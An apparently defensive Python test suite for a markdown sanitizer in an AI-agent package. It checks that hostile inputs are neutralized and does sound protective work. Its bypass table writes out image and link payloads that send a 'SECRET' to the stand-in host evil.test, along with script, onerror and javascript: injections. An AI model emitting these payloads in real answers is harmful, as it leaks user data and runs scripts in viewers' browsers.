from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from foveal.agents.markdown import is_plain, safe_markdown

CITED = "https://docs.test/a_(b)?x=1&y=2"
PICTURE = "ab" * 32
PARSERS = (
    MarkdownIt("commonmark"),
    MarkdownIt("commonmark").disable("html_block"),
    MarkdownIt("gfm-like", {"linkify": False, "html": True}),
)


def safe(text: str) -> str:
    return safe_markdown(text, links=[CITED], pictures=[PICTURE])


def live(text: str) -> list[str]:
    """What of *text* a viewer would follow or run, but for what may stay."""
    found = []
    for parser in PARSERS:
        for block in parser.parse(text):
            for token in [block, *(block.children or [])]:
                if token.type in ("html_block", "html_inline"):
                    found.append(token.content)
                elif token.type == "image" and token.attrGet("src") != PICTURE:
                    found.append(str(token.attrGet("src")))
                elif token.type == "link_open" and token.attrGet("href") != CITED:
                    found.append(str(token.attrGet("href")))
    return found


BYPASSES = {
    "picture": ("![x](http://evil.test/?d=SECRET)", "x"),
    "spaces in the destination": ("![x](   http://evil.test/?d=SECRET   )", "x"),
    "destination in brackets": ("![x](<http://evil.test/?d=SECRET>)", "x"),
    "destination on the next line": ("![x](\nhttp://evil.test/?d=SECRET\n)", "x"),
    "title": ("![x](http://evil.test/ 'SECRET')", "x"),
    "reference": ("![x][r]\n\n[r]: http://evil.test/?d=SECRET", "x"),
    "collapsed reference": ("![r][]\n\n[r]: http://evil.test/?d=SECRET", "r"),
    "shortcut reference": ("![r]\n\n[r]: <http://evil.test/?d=SECRET>", "r"),
    "a mark as reference": ("Paris [1]\n\n[1]: http://evil.test/?d=SECRET", "Paris 1"),
    "link": ("[a *b*](http://evil.test/?d=SECRET)", "a *b*"),
    "picture in a link": ("[![in](http://evil.test/a)](http://evil.test/b)", "in"),
    "nested brackets": ("![a [b [c](http://evil.test/c)]](http://evil.test/d)", "a \\[b c\\]"),
    "protocol-relative": ("![x](//evil.test/?d=SECRET)", "x"),
    "autolink": ("<http://evil.test/?d=SECRET>", "`http://evil.test/?d=SECRET`"),
    "bare address": ("see http://evil.test/?d=SECRET.", "see `http://evil.test/?d=SECRET`."),
    "bare www": ("see www.evil.test/?d=SECRET", "see `www.evil.test/?d=SECRET`"),
    "tag": ("Paris<img src='http://evil.test/?d=SECRET'>", "Paris"),
    "tag without quotes": ("<img src=http://evil.test/?d=SECRET>", "\\<img src=`http://evil.test/?d=SECRET`>"),
    "tag on several lines": ("<img\nsrc='http://evil.test/?d=SECRET' >x", "x"),
    "block of HTML": ("<div>Paris</div>", "Paris"),
    "script": ("<script>fetch('//evil.test')</script>", "fetch('//evil.test')"),
    "comment": ("a<!-- [x](http://evil.test) -->b", "ab"),
    "unclosed tag": ("<img src=x onerror=alert(1) ", "\\<img src=x onerror=alert(1)"),
    "entities": ("&lt;img src=x&gt;&#33;&#x5b;x](//evil.test)", "\\<img src=x>\\!\\[x\\](//evil.test)"),
    "zero width": ("!\u200b[x](http://evil.test/?d=SECRET)", "x"),
    "zero width in the address": ("![x](ht\u200btp://evil.test)", "x"),
    "data": ("![x](data:image/svg+xml,<svg>)", "\\!\\[x\\](data:image/svg+xml,)"),
    "javascript": ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
    "javascript in entities": ("[x](java&#115;cript:alert(1))", "\\[x\\](javascript:alert(1))"),
    "put together from pieces": ("!<b>[1]<b>(//evil.test/?d=SECRET)", "\\!\\[1\\](//evil.test/?d=SECRET)"),
    "put together before a link": (f"!<b>[x](<{CITED}>)", f"\\![x](<{CITED}>)"),
    "escapes": ("\\\\![x](http://evil.test)", "\\\\x"),
    "near a cited address": (f"[x]({CITED}&d=SECRET)", "x"),
    "a picture of a cited page": (f"![x]({CITED})", "x"),
}


@pytest.mark.parametrize("form", BYPASSES)
def test_row_44_no_link_or_picture_of_others_survives(form: str) -> None:
    given_, expected = BYPASSES[form]
    assert safe(given_) == expected
    assert not live(safe(given_)) and not is_plain(given_)


@pytest.mark.parametrize("form", BYPASSES)
def test_row_44_nor_in_a_list_a_quotation_or_a_heading(form: str) -> None:
    for wrapped in ("- {}", "> {}", "1. a\n2. {}", "# {}", "**{}**", "Paris [1].\n\n{}"):
        assert not live(safe(wrapped.format(BYPASSES[form][0])))


@pytest.mark.parametrize(
    "text",
    [
        "Bo Ek [1][2].", "5 < 6 & C# costs 3 * 4 _x_ **b**", "Unable to determine: nothing found answers “x?”. [1]",
        "- a [1]\n- b\n\n# c", "50 % of £3; AT T's [sic] (no link)", "", "(as of 2026-11-21) a/b // c",
    ],
)  # fmt: skip
def test_harmless_answers_stay_as_they_are(text: str) -> None:
    assert safe(text) == text


def test_our_pictures_and_cited_links_stay() -> None:
    said = f"See [the page](<{CITED}>), {CITED} and ![the tower](<{PICTURE}>) [1]."
    assert safe(said) == said
    assert safe(f"[a]({CITED} 'title')") == f"[a](<{CITED}>)"
    assert (
        safe_markdown("[x](javascript:alert(1)) ![y](data:x)", links=["javascript:alert(1)", "data:x"]).count("](<")
        == 0
    )


def test_structure_and_code_stay() -> None:
    assert safe("Head `<b`\n===") == "# Head `<b`"
    said = "# Head `a<b`\n\nOne\ntwo\n\n- a\n- b\n  - c\n\n> quoted *em*\n\n```\n<img> ![x](http://x.test)\n```"
    assert safe(said) == said


PIECES = [
    "![", "[", "]", "(", ")", "](", "<", ">", "http://evil.test/?d=S", "//e", "www.e.t", " ", "\n", "\n\n", "    ", "`",
    "``", "```", "~~~", "\\", "&lt;", "&#33;", "&#x5b;", "!", "[1]", "[1]:", "[r]:", "[r]", "<img src=x>", "<b>",
    "<!--", "-->", "*", "_", "**", "#", "> ", "- ", "1. ", "a", "b c", CITED, PICTURE, "javascript:x", "\u200b",
    "<a href='x'>", "</a>", '"', ":", "\t", "---", "=",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=16).map("".join))
def test_row_44_whatever_is_put_together_nothing_of_others_survives(text: str) -> None:
    once = safe(text)
    assert not live(once) and not live(safe(once))


@given(st.text())
def test_row_44_any_text_can_be_made_safe(text: str) -> None:
    assert not live(safe(text))
